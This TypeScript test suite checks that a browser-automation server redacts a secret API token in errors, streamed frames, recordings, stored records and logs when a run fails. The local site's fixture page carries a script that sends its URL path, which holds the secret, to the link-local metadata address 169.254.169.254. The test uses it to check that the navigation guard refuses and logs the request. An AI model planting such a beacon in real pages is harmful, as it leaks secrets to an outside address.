import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pino } from 'pino';
import { createLogger } from '../../src/common/index.js';
import { RrwebEventType, type WireEvent } from '../../src/protocol/index.js';
import { createServer, loadConfig, type Server } from '../../src/server/index.js';
import { SqliteStore } from '../../src/store/index.js';
import { WsViewer, execute, waitFor } from '../helpers/stack.js';

/**
 * A secret input filled into a URL and selectors. Its middle part, MARK, has no character any
 * encoder changes, so looking for MARK (ignoring case) finds the secret in any spelling: as given,
 * percent-encoded by the URL parser, or lower-cased in a host name.
 */
const MARK = 'Sup3rSecretMark';
const SECRET = `Zq8-${MARK} ü`;

function assertNoSecret(what: string, text: string): void {
  assert.ok(!text.toLowerCase().includes(MARK.toLowerCase()), `${what} shows the secret input:\n${text.slice(0, 4000)}`);
}

/** Answers /echo/… with a page that requests a refused (link-local) address carrying its own path, and 404 for anything else. */
async function siteServer(): Promise<{ origin: string; close(): Promise<void> }> {
  const server: HttpServer = createHttpServer((req, res) => {
    if (req.url?.startsWith('/echo/')) {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><p id="ok">ok</p><script>new Image().src = 'http://169.254.169.254/leak' + location.pathname;</script>`);
      return;
    }
    res.writeHead(404, { 'content-type': 'text/plain' }).end('not here');
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, close: () => new Promise<void>((ok) => server.close(() => ok())) };
}

describe('secret inputs in a failed run', () => {
  let server: Server;
  let base: string;
  let dataDir: string;
  let site: { origin: string; close(): Promise<void> };
  const logLines: string[] = [];

  before(async () => {
    site = await siteServer();
    dataDir = mkdtempSync(join(tmpdir(), 'domcast-secrets-'));
    const log = pino({ level: 'info' }, { write: (line: string) => void logLines.push(line) });
    server = createServer(loadConfig({ PORT: '0', HOST: '127.0.0.1', DOMCAST_DATA_DIR: dataDir }), { log });
    base = await server.listen();
  });
  after(async () => {
    await server?.close();
    await site?.close();
  });

  /** Runs `steps` with the secret as `api_token`; returns the session's answer, every stream frame and the exported events, as text. */
  async function run(steps: unknown[]): Promise<{ id: string; record: Record<string, unknown>; texts: Record<string, string> }> {
    const { status, body } = await execute(base, {
      workflow: { name: 'secret', input_schema: [{ name: 'api_token', type: 'string', required: true }, { name: 'user', type: 'string' }], steps },
      inputs: { api_token: SECRET, user: 'ada' },
      visual_enabled: true,
    });
    assert.equal(status, 202, JSON.stringify(body));
    const viewer = await WsViewer.open(body.visual_stream_url!);
    await waitFor('the run to end', () => server.deps.registry.get(body.session_id)?.finished, 30_000);
    await viewer.closed;
    const answer = await fetch(`${base}/workflows/${body.session_id}`);
    const record = (await answer.json()) as Record<string, unknown>;
    const events = (await (await fetch(`${base}/workflows/${body.session_id}/events`)).json()) as WireEvent[];
    // The page's own events are its content (the Meta event keeps its URL, see docs/SECURITY.md); ours must not carry the secret.
    const ours = (list: WireEvent[]) => list.filter((e) => e.type === RrwebEventType.Custom).map((e) => JSON.stringify(e));
    const frames = viewer.frames.filter((f) => f.t !== 'events' && f.t !== 'reset').map((f) => JSON.stringify(f));
    return {
      id: body.session_id,
      record,
      texts: {
        'GET /workflows/{id}': JSON.stringify(record),
        "the stream's frames and step/status events": [...frames, ...ours(viewer.received.map((r) => r.event))].join('\n'),
        "the recording's step/status events": ours(events).join('\n'),
      },
    };
  }

  test('a navigation that answers 404 shows [redacted] in error, steps[].error, matched, the stream, the recording, the store and the logs', async () => {
    const { id, record, texts } = await run([
      { type: 'navigation', url: `${site.origin}/echo/{api_token}` },
      { type: 'wait', cssSelector: '#ok, [data-token="{api_token}"]' },
      { type: 'navigation', url: `${site.origin}/missing/{api_token}` },
    ]);
    assert.equal(record.status, 'failed');
    assert.match(String(record.error), /^step 3 \(navigation\) failed: navigation to http:\/\/127\.0\.0\.1:\d+\/missing\/\[redacted\] answered HTTP 404$/);
    const steps = record.steps as { state: string; error?: string; matched?: string | null }[];
    assert.equal(steps[2]?.error, record.error);
    assert.equal(steps[1]?.matched, '#ok, [data-token="[redacted]"]');
    assert.deepEqual(record.inputs, { api_token: '[redacted]', user: 'ada' });
    for (const [what, text] of Object.entries(texts)) assertNoSecret(what, text);
    for (const text of Object.values(texts)) assert.match(text, /\/missing\/\[redacted\] answered HTTP 404/, 'the failed step is there, redacted (so the check above looked at it)');

    await server.deps.store.flush();
    const store = new SqliteStore(dataDir, createLogger('silent'), { readOnly: true });
    try {
      assertNoSecret('the stored record', JSON.stringify(await store.get(id)));
    } finally {
      await store.close();
    }
    // The page asked for a link-local address with the secret in its path: the guard refused and logged it.
    const refusal = await waitFor('the refusal log line', () => logLines.find((l) => l.includes('request refused by the navigation policy') && l.includes(id)));
    assert.match(refusal, /169\.254\.169\.254\/leak\/echo\/\[redacted\]/);
    for (const line of logLines) assertNoSecret('a log line', line);
  });

  test('a selector holding the secret that matches nothing shows [redacted] in the error, the failure and the stream', async () => {
    const { record, texts } = await run([
      { type: 'navigation', url: `${site.origin}/echo/page` },
      { type: 'click', cssSelector: '[data-token="{api_token}"]', timeoutMs: 300 },
    ]);
    assert.equal(record.status, 'failed');
    assert.match(String(record.error), /^step 2 \(click \[data-token="\[redacted\]"\]\) failed: no element matches \[data-token="\[redacted\]"\]/);
    assert.deepEqual((record.failure as { selector: string }).selector, '[data-token="[redacted]"]');
    for (const [what, text] of Object.entries(texts)) assertNoSecret(what, text);
    for (const line of logLines) assertNoSecret('a log line', line);
  });
});
